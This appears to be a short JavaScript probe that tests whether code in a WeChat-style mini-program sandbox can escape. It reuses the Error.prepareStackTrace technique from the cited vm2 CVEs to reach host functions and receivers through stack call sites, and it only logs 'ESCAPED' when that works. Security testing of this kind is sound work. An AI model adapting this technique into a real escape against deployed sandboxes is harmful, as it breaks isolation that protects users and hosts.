// Sets Error.prepareStackTrace, and takes functions and receivers of the host from call sites
// Source: CVE-2022-36067, CVE-2023-29017, CVE-2023-30547 (vm2)
Error.prepareStackTrace = (error, sites) => {
  for (const site of sites || []) {
    for (const name of ['getThis', 'getFunction']) {
      const found = typeof site[name] === 'function' ? site[name]() : undefined;
      if (found && found !== globalThis && String(found).includes('footbridge')) {
        console.log('ESCAPED: ' + name);
      }
    }
  }
  return 'stack';
};
Error.stackTraceLimit = 1000;
const rough = { get x() { return new Error('x').stack; } };
wx.invokeNativePlugin({ api_name: 'echo', data: rough, success: () => new Error('y').stack });
try { wx.invokeNativePlugin({ api_name: 'echoSync', data: { toJSON: () => new Error('z').stack } }); } catch (e) {}
Promise.reject(new Error('w')).catch((e) => e.stack);
